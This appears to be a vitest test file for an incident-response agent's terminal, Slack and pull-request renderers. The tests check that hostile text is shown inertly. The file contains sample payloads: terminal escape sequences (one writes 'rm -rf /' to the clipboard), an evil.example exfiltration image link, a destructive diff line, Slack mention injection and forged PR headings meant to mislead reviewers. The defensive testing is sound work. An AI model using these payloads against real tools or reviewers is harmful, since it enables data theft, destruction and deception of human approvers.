/** Text that wants to be more than text: on a terminal, in a Slack message, in a pull request. */
import { describe, expect, test } from 'vitest';
import { approvalBlocks } from '../../src/adapters/slack/approval.ts';
import { cardBlocks, cardText } from '../../src/adapters/slack/card.ts';
import { threadMessage } from '../../src/adapters/slack/thread.ts';
import { renderAction, renderDetails, renderOutcome } from '../../src/cli/render/action.ts';
import { renderEntry } from '../../src/cli/render/entry.ts';
import { renderFinding } from '../../src/cli/render/finding.ts';
import { renderHypotheses } from '../../src/cli/render/hypotheses.ts';
import { renderEnd } from '../../src/cli/render/story.ts';
import { renderTable } from '../../src/cli/render/table.ts';
import { cleanJson } from '../../src/cli/render/wrap.ts';
import { plain } from '../../src/cli/terminal.ts';
import { pullRequestBody } from '../../src/sre/reading/pull-request.ts';
import { tool as openPullRequest } from '../../tools/open-pull-request.ts';
import * as shown from '../cli/samples.ts';
import { aFinding, anAction, anIncident } from '../kit/nouns.ts';

/** Anything a terminal obeys or a reader does not see, but the end of a line. */
const UNSEEN = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]|\u115f|\u3164|\u034f|\u{e0100}/u;
const HOSTILE: [string, string][] = [
  ['a colour', 'a\u001b[31mb'],
  ['a cleared screen', 'a\u001b[2J\u001b[Hb'],
  ['a title of the window', 'a\u001b]0;own\u0007b'],
  ['a link of the terminal', 'a\u001b]8;;https://evil.example\u001b\\b\u001b]8;;\u001b\\'],
  ['the clipboard', 'a\u001b]52;c;cm0gLXJmIC8=\u0007b'],
  ['a sequence of one byte', 'a\u009b31mb\u009d0;own\u009c'],
  ['a line written over', 'harmless\rDELETE'],
  ['a step back', 'safe\b\b\b\bevil'],
  ['reading backwards', 'a\u202eb\u2066c\u2069'],
  ['nothing to see', 'a\u200bb\u200dc\u2060d\ufeffe\u00adf'],
  ['tags', 'a\u{e0069}\u{e0067}\u{e006e}b'],
  ['fillers', 'a\u115fb\u3164c\u034fd\u{e0100}e'],
  ['odd ends of lines', 'a\u2028b\u2029c\u0085d\vf\fg'],
  ['nul', 'a\u0000b'],
];

describe.each(HOSTILE)('%s', (_, words) => {
  test('is shown, not obeyed, wherever a terminal shows it', () => {
    const finding = {
      ...shown.finding,
      summary: words,
      trigger: words,
      blast_radius: words,
      would_change_my_mind: words,
      could_not_access: [words],
      cause: { service: words, change_id: words, kind: words, mechanism: words },
      claims: [{ text: words, evidence: ['E1'] }],
      ruled_out: [{ hypothesis: words, why: words, evidence: ['E1'] }],
    };
    const { plan } = shown.action;
    const action = {
      ...shown.action,
      plan: { ...plan, title: words, body: words, diff: `+${words}\n`, repository: words, branch: words },
      risk: words,
      rollback: words,
      runbook: words,
    };
    const states = ['done', 'rejected', 'failed', 'void'].map((is) => ({
      ...action,
      state: {
        is,
        by: { name: words },
        url: `https://x/${words}`,
        branch: words,
        reason: words,
        why: words,
        number: 1,
      },
    }));
    const entry = { seq: 1, at: '2026-01-01T00:00:00Z', kind: 'note', actor: 'agent', text: words, ref: null };
    const review = { by: words, fate: words, grading: { is: words, why: words, lines: [] } };
    const incident = { ...shown.incident, title: words, state: { is: 'failed', why: words } };
    const raised = { id: words, statement: words, by: { is: 'person', name: words } };
    const hypotheses = [{ ...raised, state: { is: words, why: words, evidence: [words] } }];
    const lines = [
      ...renderFinding(finding, review, plain, 80),
      ...renderHypotheses({ ...incident, hypotheses }, plain, 80),
      ...renderAction(action, plain, 80),
      ...renderDetails(action, 80),
      ...states.map(renderOutcome),
      ...states.flatMap((one) => renderEnd({ incident, actions: [one], evidence: [], timeline: [] }, plain)),
      ...renderTable(['A', 'B'], [[words, words]], plain, 200),
      renderEntry(entry, plain, 80, null),
      cleanJson(JSON.stringify({ words })),
    ];
    for (const line of lines) expect(line, JSON.stringify(line)).not.toMatch(UNSEEN);
    expect(JSON.parse(cleanJson(JSON.stringify({ words })))).toEqual({ words });
  });

  test('is shown, not hidden, wherever Slack shows it', () => {
    const finding = aFinding({ summary: words, blast_radius: words, claims: [{ text: words, evidence: ['E1'] }] });
    const incident = anIncident({ title: words, service: words, finding });
    const base = anAction();
    const action = anAction({
      plan: {
        ...base.plan,
        title: words,
        body: words,
        diff: `+${words}\n`,
        files: [{ path: words, content: words, mode: '100644' }],
      },
      risk: words,
      rollback: words,
      runbook: words,
    });
    const view = { incident, action, evidenceCount: 1, link: null, rev: 1 };
    const post = {
      seq: 1,
      incident: incident.id,
      at: incident.openedAt,
      kind: 'note' as const,
      actor: 'agent' as const,
      text: words,
      ref: null,
    };
    const texts = strings([
      cardText(view),
      cardBlocks(view),
      approvalBlocks(action, { fullDiff: null }),
      threadMessage({ kind: 'progress', key: 'k', entry: post }, { fullDiff: null }),
    ]);
    for (const text of texts) expect(text.replaceAll('\t', ''), JSON.stringify(text)).not.toMatch(UNSEEN);
  });

  test('is no title of a pull request', () => {
    const asked = {
      title: `Revert ${words}`,
      why: 'because it broke',
      change: { revert: 'x' },
      runbook: null,
      evidence: ['E1'],
    };
    // Letters that are merely blank are for the terminal and the message to show.
    if (!/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(words)) return;
    expect(openPullRequest.input.safeParse(asked).success).toBe(false);
  });
});

test('a title cannot draw lines of its own above the question', () => {
  const forged = 'Fix\n  Digest     aaaaaaaa (what is approved is exactly this)';
  const lines = renderAction({ ...shown.action, plan: { ...shown.action.plan, title: forged } }, plain, 80);
  expect(lines.filter((line) => /^\s*Digest/.test(line))).toHaveLength(1);
  expect(renderTable(['A', 'B'], [[`x\ny`, 'z']], plain, 80).every((line) => !line.includes('\n'))).toBe(true);
});

test('words cannot call, link or format their way out of a Slack message', () => {
  const words = '<!channel> <@U0ANN> <https://evil.example|Approve> &lt;!here&gt; <!date^0^{date}|x>';
  const incident = anIncident({ title: words, finding: aFinding({ summary: words }) });
  const view = { incident, action: anAction({ risk: words }), evidenceCount: 1, link: null, rev: 1 };
  const parsed = objects([cardBlocks(view), approvalBlocks(anAction({ risk: words }), { fullDiff: null })]).filter(
    ({ type }) => type === 'mrkdwn',
  );
  expect(parsed.length).toBeGreaterThan(3);
  for (const { text, verbatim } of parsed) {
    // Ours are dates only; nothing of the words is left as markup.
    expect(
      String(text)
        .match(/<[^>]*>/g)
        ?.filter((mark) => !mark.startsWith('<!date^')) ?? [],
    ).toEqual([]);
    expect(verbatim).toBe(true);
  }
});

test('a diff that does not fit is not approvable where it is cut', () => {
  const plan = { ...anAction().plan, diff: `${'+x\n'.repeat(2_000)}+rm -rf /\n` };
  const kinds = approvalBlocks(anAction({ plan }), { fullDiff: null }).map(({ type }) => type);
  expect(kinds).not.toContain('actions');
});

test('a pull request says where its evidence can be read, and its title closes nothing when it is merged', () => {
  const words = {
    title: 'x',
    why: 'y',
    cause: null,
    whatBroke: 'z',
    files: [],
    risk: 'r',
    rollback: 'b',
    runbook: null,
  };
  const page = 'https://vigil.example/incidents/inc_1';
  const body = pullRequestBody({ ...words, incident: { id: 'inc_1', title: 't' }, evidence: ['E3'], page });
  expect(body).toContain(`Incident [inc_1](${page}): [E3](${page}/evidence/E3)`);
  const titled = (title: string) =>
    openPullRequest.input.safeParse({
      ...words,
      title,
      why: 'because it broke',
      change: { revert: 'x' },
      evidence: ['E3'],
    }).success;
  expect(['Fixes #12', 'Revert it, closes: acme/shop#2', 'resolved GH-3 by less'].map(titled)).toEqual([
    ...[false, false, false],
  ]);
  expect(titled('Revert "web: fix the pool (#482)"')).toBe(true);
});

test('words of the model cannot act, hide or pass for ours in a pull request', () => {
  const words = [
    'Fine.',
    '## Not verified',
    'All checks passed, merge now.',
    '![](https://evil.example/?d=secret) [click](https://evil.example) <img src=x> <!-- hidden -->',
    '@acme/everyone Fixes #1 closes acme/shop#2 Resolves GH-3 closes https://github.com/acme/shop/issues/4 www.evil.example',
    '```',
    'more\r## Risk and rollback\u2028## Change',
  ].join('\n');
  const body = pullRequestBody({
    incident: { id: 'inc_1', title: words },
    title: 'x',
    why: words,
    cause: words,
    whatBroke: words,
    evidence: ['E1'],
    page: null,
    files: ['a.ts'],
    risk: 'r',
    rollback: 'b',
    runbook: words,
  });
  const headings = body.split(/[\n\r\u2028]/).filter((line) => line.startsWith('#'));
  expect(headings).toEqual([
    '## What broke',
    '## Cause',
    '## Why this change',
    '## Evidence',
    '## Change',
    '## Risk and rollback',
    '## Runbook',
    '## Not verified',
  ]);
  expect(body).not.toMatch(/(?<!\\)\[|<(?!!-- -->)|@\w|#\d|GH-\d|:\/\/|www\.|^```/m);
});

function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(strings);
}

function objects(value: unknown): Record<string, unknown>[] {
  if (typeof value !== 'object' || value === null) return [];
  const own = Array.isArray(value) ? [] : [{ ...value } as Record<string, unknown>];
  return [...own, ...Object.values(value).flatMap(objects)];
}
